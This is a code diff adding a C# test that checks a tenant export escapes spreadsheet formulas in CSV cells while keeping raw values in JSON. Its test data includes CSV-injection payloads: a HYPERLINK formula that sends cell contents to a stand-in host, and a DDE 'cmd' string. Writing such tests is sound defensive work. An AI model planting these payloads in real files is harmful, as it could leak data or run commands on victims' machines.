@@ -66,6 +66,29 @@ public sealed class ExportTests(PostgresServer server)
             () => Exporter(source).WriteAsync(file, tenant.Id, new ExportOptions(false, [], false), CancellationToken.None))).Code);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://x\"&A2)", "\"'=HYPERLINK(\"\"http://x\"\"&A2)\"")]
+    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
+    [InlineData("-2+3", "'-2+3")]
+    [InlineData("@SUM(A1)", "'@SUM(A1)")]
+    [InlineData("+86 138-0000 (1)", "+86 138-0000 (1)")]
+    [InlineData("-12.5", "-12.5")]
+    [InlineData("a=b", "a=b")]
+    public async Task No_text_is_a_formula_to_a_spreadsheet(string text, string cell)
+    {
+        await using Installation source = await Installation.CreateAsync(server);
+        PublishedTenant tenant = await source.AddTenantAsync("one");
+        await source.WriteAsync(tenant.Id, "Campaign", WritingWorld.Input(("name", text)));
+        string csv = source.PathOf("csv.zip"), json = source.PathOf("json.zip");
+        await Exporter(source).WriteAsync(csv, tenant.Id, new ExportOptions(false, ["Campaign"], false), CancellationToken.None);
+        await Exporter(source).WriteAsync(json, tenant.Id, new ExportOptions(true, ["Campaign"], false), CancellationToken.None);
+        using ZipArchive cells = ZipFile.OpenRead(csv), values = ZipFile.OpenRead(json);
+        Assert.Contains($",{cell}", Text(cells, "Campaign.csv"), StringComparison.Ordinal);
+        Assert.Contains(JsonSerializer.Serialize(text, Readable), Text(values, values.Entries.Single(e => e.Name.StartsWith("Campaign", StringComparison.Ordinal)).Name), StringComparison.Ordinal);
+    }
+
+    private static readonly JsonSerializerOptions Readable = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };
+
     private static TenantExport Exporter(Installation source) => new(source.DataSource, source.Models, source.Cipher);
 
     private static Dictionary<Guid, Dictionary<string, object?>> ReadCsv(string file, RecordLayout layout)
